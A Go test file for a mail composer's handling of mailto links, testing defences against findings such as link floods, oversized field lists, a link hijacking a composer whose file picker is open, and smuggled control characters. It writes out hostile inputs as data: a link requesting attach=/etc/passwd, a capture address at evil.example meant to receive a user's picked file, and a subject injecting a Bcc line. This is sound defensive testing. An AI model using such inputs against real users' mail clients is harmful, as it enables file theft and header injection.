package ui

import (
	"fmt"
	"strings"
	"testing"

	"fyne.io/fyne/v2/test"

	"stamp/instance"
)

// Finding 2: a flood of hand-overs (a page or script opening mailto: links
// in a loop; each browser launch is a new stamp process handing over) opens
// one composer window, and one draft file, per link, without bound.
func TestAttackHandOverFloodOpensUnboundedWindows(t *testing.T) {
	dir := t.TempDir()
	s, _ := newTestComposers(t, dir, Options{})
	first := s.Start(nil)
	test.Type(first.Subject, "Minutes of Monday")
	const links = 40
	for i := 0; i < links; i++ {
		Receive(s.Front(), []instance.Arg{{Kind: instance.Mailto, Value: fmt.Sprintf("mailto:spam%d@example.com?subject=Flood%%20%d", i, i)}})
	}
	if n := len(s.Open()); n > 10 {
		t.Fatalf("%d hand-overs opened %d composer windows: a flood of links is not bounded (no question, no cap)", links, n)
	}
	// One question holds the rest, and saying no is said.
	asking := s.Front()
	top := asking.Window.Canvas().Overlays().Top()
	if top == nil || findButton(top, "Don't open them") == nil {
		t.Fatal("no question about the links past the limit")
	}
	waiting := links - (len(s.Open()) - 1)
	test.Tap(findButton(top, "Don't open them"))
	if want := fmt.Sprintf("%d messages handed to Stamp were not opened", waiting); !strings.Contains(asking.Notice.Text, want) {
		t.Fatalf("after Don't open them: notice %q, want %q", asking.Notice.Text, want)
	}
}

// Past the limit nothing is lost: the person's yes opens every link that
// waited, each in its window.
func TestLinksPastTheWindowLimitOpenWhenThePersonSaysSo(t *testing.T) {
	s, _ := newTestComposers(t, t.TempDir(), Options{})
	first := s.Start(nil)
	test.Type(first.Subject, "Minutes of Monday")
	const links = maxLinkWindows + 3
	for i := 0; i < links; i++ {
		Receive(s.Front(), []instance.Arg{{Kind: instance.Mailto, Value: fmt.Sprintf("mailto:ann%d@example.com", i)}})
	}
	if n := len(s.Open()); n != 1+maxLinkWindows {
		t.Fatalf("%d windows before the answer, want %d", n, 1+maxLinkWindows)
	}
	test.Tap(findButton(s.Front().Window.Canvas().Overlays().Top(), "Open them"))
	got := map[string]bool{}
	for _, c := range s.Open()[1:] {
		got[c.To.Text] = true
	}
	for i := 0; i < links; i++ {
		if a := fmt.Sprintf("ann%d@example.com", i); !got[a] {
			t.Errorf("the link to %s was not opened (windows' To: %v)", a, got)
		}
	}
}

// Finding 3: a 64 KiB link of 32 000 bare field names ("?a&a&a…") is
// within MaxLength, and every ignored name is joined into the composer's
// one-line notice: a ~100 KB status line.
func TestAttackIgnoredFieldsFloodTheNotice(t *testing.T) {
	c, _ := newTestComposer(t, t.TempDir())
	link := "mailto:ann@example.com?" + strings.Repeat("x-a&", 16000)
	Receive(c, []instance.Arg{{Kind: instance.Mailto, Value: link}})
	if c.To.Text != "ann@example.com" {
		t.Fatalf("the link did not open: To %q", c.To.Text)
	}
	if n := len(c.Notice.Text); n > 2000 {
		t.Fatalf("the notice is %d bytes long (%q…): the ignored fields are listed without bound", n, c.Notice.Text[:200])
	}
	// Distinct names: five named, the rest counted.
	c2, _ := newTestComposer(t, t.TempDir())
	var b strings.Builder
	for i := 0; i < 3000; i++ {
		fmt.Fprintf(&b, "&x-f%d=1&X-F%d=2", i, i)
	}
	Receive(c2, []instance.Arg{{Kind: instance.Mailto, Value: "mailto:ann@example.com?attach=/etc/passwd" + b.String()}})
	if want := "attach, x-f0, x-f1, x-f2, x-f3 and 2996 more;"; !strings.Contains(c2.Notice.Text, want) || len(c2.Notice.Text) > 600 {
		t.Fatalf("notice %q, want it to hold %q", c2.Notice.Text, want)
	}
}

// Finding 8: targetFor looks only at the form: an empty composer with the
// file picker open (the person is choosing a file to attach to the message
// they are about to write) is filled by a link behind the picker, and the
// file they then pick is attached to the link's message, addressed by the
// page that opened the link.
func TestAttackLinkFillsAComposerWhoseFilePickerIsOpen(t *testing.T) {
	dir := t.TempDir()
	s, _ := newTestComposers(t, dir, Options{})
	first := s.Start(nil)
	first.ShowAttachDialog()
	if first.Window.Canvas().Overlays().Top() == nil {
		t.Fatal("the file picker did not open")
	}
	Receive(first, []instance.Arg{{Kind: instance.Mailto, Value: "mailto:collector@evil.example?subject=Your%20file"}})
	if first.To.Text != "" {
		secret := writeFile(t, t.TempDir(), "tax-return.pdf", []byte("%PDF-1.4"))
		first.AttachFiles(secret) // what the still-open picker does when the person picks
		t.Fatalf("a link filled the composer behind its open file picker: To %q, Subject %q; the file picked next goes to it (attachments %v)",
			first.To.Text, first.Subject.Text, first.Attachments.Paths())
	}
	if n := len(s.Open()); n != 2 || s.Front() == first || s.Front().To.Text != "collector@evil.example" {
		t.Fatalf("the link did not open in a window of its own: %d windows, front To %q", n, s.Front().To.Text)
	}
}

// Finding 4, as the person sees it: a subject with a Unicode line break and
// a direction override arrives as one line, and the notice says so.
func TestALinksControlCharactersAreTakenOutAndSaid(t *testing.T) {
	c, _ := newTestComposer(t, t.TempDir())
	Receive(c, []instance.Arg{{Kind: instance.Mailto, Value: "mailto:ann@example.com?subject=Invoice%E2%80%A8Bcc:%20boss%E2%80%AE@example.com"}})
	if c.Subject.Text != "Invoice Bcc: boss@example.com" {
		t.Fatalf("subject %q", c.Subject.Text)
	}
	for _, want := range []string{"A line break in a one-line field was replaced by a space.", "Invisible control characters"} {
		if !strings.Contains(c.Notice.Text, want) {
			t.Errorf("notice %q does not say %q", c.Notice.Text, want)
		}
	}
}
